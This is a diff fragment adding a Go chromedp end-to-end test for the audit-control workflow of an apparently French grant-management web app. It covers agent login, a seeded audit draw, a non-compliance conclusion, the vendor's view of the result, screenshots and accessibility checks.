+	asps := demandesDeposees(t, p, vendeur, "13750.00", "48000.00")
+	deposerForm(t, vendeur, p, "T0009", "1000.00", 9, false)
+	payerAvance(t, p, asps[0], 10_000_00)
+	payerAvance(t, p, asps[1], 20_000_00)
+	agentClient(t, p, "marie@asp.fr", segur.RoleInstructeur)
+	ctx, do, texte := parcours(t)
+	connexion := func(login, mdp string) {
+		t.Helper()
+		do("connexion "+login, chromedp.Navigate(p.srv.URL+"/connexion"),
+			chromedp.SendKeys(chromedp.CSS("#login"), login),
+			chromedp.SendKeys(chromedp.CSS("#motdepasse"), mdp),
+			chromedp.Click(chromedp.CSS("main button[type=submit]")),
+			chromedp.WaitVisible(chromedp.CSS(".fr-header__menu")))
+	}
+	connexion("marie@asp.fr", "mot de passe de l'agent")
+	do("contrôles", chromedp.Navigate(p.srv.URL+"/agence/controles"), chromedp.WaitVisible(chromedp.CSS("#taux")))
+	segurtest.Screenshot(t, ctx, "controles-01-liste")
+	segurtest.Axe(t, ctx)
+
+	do("tirage refusé", chromedp.SetValue(chromedp.CSS("#taux"), "0"),
+		chromedp.Click(chromedp.CSS(`form[action="/agence/tirages"] button`)),
+		chromedp.WaitVisible(chromedp.CSS("#taux-erreur")))
+	segurtest.Screenshot(t, ctx, "controles-02-tirage-refuse")
+	segurtest.Axe(t, ctx)
+
+	do("tirage", chromedp.SetValue(chromedp.CSS("#taux"), "50"), chromedp.SetValue(chromedp.CSS("#graine"), "2026"),
+		chromedp.Click(chromedp.CSS(`form[action="/agence/tirages"] button`)),
+		chromedp.WaitVisible(chromedp.CSS("#graine-tirage")))
+	if got := texte("#graine-tirage"); got != "2026" {
+		t.Errorf("seed shown: got %q", got)
+	}
+	segurtest.Screenshot(t, ctx, "controles-03-tirage")
+	segurtest.Axe(t, ctx)
+
+	cs, _, _ := p.db.FindControles(context.Background(), segur.ControleFilter{})
+	if len(cs) != 1 {
+		t.Fatalf("got %d controls, want 1", len(cs))
+	}
+	id := int64(cs[0].ID)
+	if code, _ := envoyerPieceControle(t, p, vendeur, id, "scan.png", pngMinimal()); code != http.StatusOK {
+		t.Fatalf("file: got %d", code)
+	}
+	do("contrôle", chromedp.Navigate(fmt.Sprintf("%s/agence/controles/%d", p.srv.URL, id)), chromedp.WaitVisible(chromedp.CSS("#message")))
+	segurtest.Screenshot(t, ctx, "controles-04-controle")
+	segurtest.Axe(t, ctx)
+
+	do("non conforme", chromedp.Click(chromedp.CSS(`label[for="resultat-non-conforme"]`)),
+		chromedp.SendKeys(chromedp.CSS("#motif"), "Le PV de VSR n'a pas été transmis."),
+		chromedp.Click(chromedp.CSS(`form[action$="/conclusion"] button`)),
+		chromedp.WaitVisible(chromedp.CSS(".fr-alert--success")))
+	if got := texte(".fr-alert--success"); !strings.Contains(got, "ordre de reversement") {
+		t.Errorf("outcome: got %q", got)
+	}
+	segurtest.Screenshot(t, ctx, "controles-05-non-conforme")
+	segurtest.Axe(t, ctx)
+
+	do("pilotage", chromedp.Navigate(p.srv.URL+"/agence/pilotage"), chromedp.WaitVisible(chromedp.CSS(`svg[data-graphique="gr-codes"]`)))
+	segurtest.Screenshot(t, ctx, "controles-06-pilotage")
+	segurtest.Axe(t, ctx)
+
+	do("déconnexion", chromedp.Click(chromedp.CSS(`form[action="/deconnexion"] button`)), chromedp.WaitVisible(chromedp.CSS(".fr-alert--success")))
+	connexion("jean@lebeaulogiciel.fr", "mot de passe de test")
+	do("vos contrôles", chromedp.Navigate(p.srv.URL+"/controles"), chromedp.WaitVisible(chromedp.CSS("caption")))
+	segurtest.Screenshot(t, ctx, "controles-07-fournisseur")
+	segurtest.Axe(t, ctx)
+	do("votre contrôle", chromedp.Navigate(fmt.Sprintf("%s/controles/%d", p.srv.URL, id)), chromedp.WaitVisible(chromedp.CSS("h1")))
+	if got := texte("main"); !strings.Contains(got, "ORV-1") || !strings.Contains(strings.ToLower(got), "non conforme") || strings.Contains(got, "/agence/") {
+		t.Errorf("vendor's control: %q", got)
+	}
+	segurtest.Screenshot(t, ctx, "controles-08-fournisseur-controle")
+	segurtest.Axe(t, ctx)
+}
